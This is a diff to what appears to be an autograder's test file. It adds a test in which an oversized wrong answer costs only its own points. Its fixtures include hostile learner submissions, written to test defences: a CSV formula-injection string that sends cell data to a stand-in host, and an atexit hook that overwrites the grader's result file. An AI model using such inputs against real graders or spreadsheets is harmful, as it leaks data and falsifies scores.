@@ -139,10 +139,14 @@ OTHER_CASES = {
     "thread_outlives_the_answers": honest_with(
         "import threading, time\nthreading.Thread(target=time.sleep, args=(1000,)).start()",
         "import atexit\natexit.register(lambda: open('result.json', 'w').write('{}'))"),
-    # A cell nested 10⁵ deep fails to parse with RecursionError, in the child and in the grader.
-    "unparseable_cell": honest_with("a." * 10**5 + "b"),
+    # A cell nested 10⁴ deep fails to parse with RecursionError, in the child and in the grader.
+    "unparseable_cell": honest_with("a." * 10**4 + "b"),
     "too_much_code": honest_with("x = 1\n" * 200_000),
     "answers_of_01_gradient_descent": honest_with(),  # its file name says another exercise
+    # A wrong answer returning 1.5 million numbers (8 MB of JSON per case, 3 cases) is refused
+    # alone: the result file stays readable, and the other answers count.
+    "huge_wrong_answer": notebook(SETUP, Q1, "def summary(values):\n    return np.zeros(15 * 10**5)",
+                                  Q3),
     "formula_as_exercise": notebook(*HONEST, exercise='=HYPERLINK("http://x.example/?"&A1)'),
     "calls_reference_by_attribute": notebook(
         SETUP, Q1, Q2, "import course_lib.quadratic as quadratic\n"
@@ -440,6 +444,12 @@ def test_names_chosen_by_learners_are_not_formulas_in_the_csv(strong):
 def test_unreadable_files_score_zero_with_the_reason(strong, name, message):
     record = strong["records"][name]
     assert record["score"] == 0 and record["status"].startswith(message)
+
+
+def test_an_enormous_wrong_answer_loses_only_its_own_points(strong):
+    record = strong["records"]["huge_wrong_answer"]
+    assert scores(record) == {"q1": 2, "q2": 0, "q3": 1} and record["status"] == "ok"
+    assert "MB of data, more than the grader keeps" in status_of(record, "q2")["details"][0]
 
 
 def test_a_cell_the_grader_cannot_parse_is_only_a_cell_error(strong):
